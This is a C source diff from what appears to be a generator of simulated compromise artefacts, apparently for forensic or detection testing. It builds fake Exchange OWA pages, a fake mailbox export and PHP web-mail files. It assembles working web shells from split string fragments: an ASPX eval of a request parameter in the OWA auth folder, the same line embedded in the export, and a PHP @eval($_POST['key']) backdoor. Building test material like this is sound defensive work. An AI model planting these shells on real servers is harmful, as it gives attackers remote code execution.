@@ -3,6 +3,7 @@
 #include "base/buf.h"
 
 #include <inttypes.h>
+#include <string.h>
 
 #define AUTH     "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/"
 #define ECP_AUTH "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth/"
@@ -24,6 +25,15 @@ static const char *const shipped[] = {
 
 static const char *const compiled_pages[] = {"logon.aspx", "errorfe.aspx"};
 
+static str join(struct arena *a, const char *const *parts, size_t count)
+{
+    str whole = STR("");
+    for (size_t i = 0; i < count; i++) {
+        whole = arena_printf(a, "%.*s%s", STR_ARG(whole), parts[i]);
+    }
+    return whole;
+}
+
 const char *shell_line(struct arena *a)
 {
     static const char *const parts[] = {
@@ -31,11 +41,7 @@ const char *shell_line(struct arena *a)
         "ver\">",         "function Pa", "ge_Load(){", "ev",          "al(Req",
         "uest[\"tbl\"],", "\"un",        "safe\");}",  "</scr",       "ipt>",
     };
-    str line = STR("");
-    for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
-        line = arena_printf(a, "%.*s%s", STR_ARG(line), parts[i]);
-    }
-    return line.p;
+    return join(a, parts, ARRAY_LEN(parts)).p;
 }
 
 /* Not Microsoft's text: only the name and the kind of content are theirs. */
@@ -146,4 +152,56 @@ bool pages_shell(struct scene *s, usec dropped, usec compiled)
     bool written = ledger_file(s->ledger, AUTH SHELL, buf_str(&b), dropped);
     buf_done(&b);
     return write_compiled(s, SHELL, "f5dba9b9", compiled) && written;
+}
+
+/* ---- a page that is an export of a mailbox */
+
+enum { EXPORT_SIZE = 271360, DRAFT_AT = 21004 };
+
+bool pages_exported(struct scene *s, const char *path, const char *name, usec written,
+                    usec compiled)
+{
+    uint8_t *pst = ARENA_ARRAY(s->arena, uint8_t, EXPORT_SIZE);
+    static const uint8_t magic[] = {'!', 'B', 'D', 'N'};
+    for (size_t i = 0; i < EXPORT_SIZE; i++) {
+        pst[i] = (uint8_t)(chance_next(&s->chance) >> 56);
+    }
+    memcpy(pst, magic, sizeof magic);
+    str line = str_of(shell_line(s->arena));
+    memcpy(pst + DRAFT_AT, line.p, line.len);
+    str content = {(const char *)pst, EXPORT_SIZE};
+    return ledger_file(s->ledger, path, content, written) &&
+           write_compiled(s, name, "bbdc4ba5", compiled);
+}
+
+/* ---- a web mail in PHP */
+
+bool pages_webmail(struct scene *s, const char *folder)
+{
+    static const char *const names[] = {"index.php",
+                                        "installer/index.php",
+                                        "plugins/archive/archive.php",
+                                        "plugins/zipdownload/zipdownload.php",
+                                        "program/include/iniset.php",
+                                        "program/lib/mailbox.php",
+                                        "program/actions/upload.php"};
+    bool written = true;
+    for (size_t i = 0; i < ARRAY_LEN(names); i++) {
+        str content = arena_printf(
+            s->arena,
+            "<?php\n/* %s: part of the web mail. */\nnamespace Webmail;\n\nfinal class Part%zu\n{\n"
+            "    public function title(array $settings): string\n    {\n"
+            "        return htmlspecialchars($settings['title'] ?? 'Mail', ENT_QUOTES);\n    "
+            "}\n}\n",
+            names[i], i);
+        const char *path = arena_printf(s->arena, "%s/%s", folder, names[i]).p;
+        written = ledger_file(s->ledger, path, content, time_of_unix(INSTALLED)) && written;
+    }
+    return written;
+}
+
+bool pages_php_shell(struct scene *s, const char *path, usec written)
+{
+    static const char *const parts[] = {"<?p", "hp @ev", "al($_PO", "ST['k", "ey']);", " ?>\n"};
+    return ledger_file(s->ledger, path, join(s->arena, parts, ARRAY_LEN(parts)), written);
 }
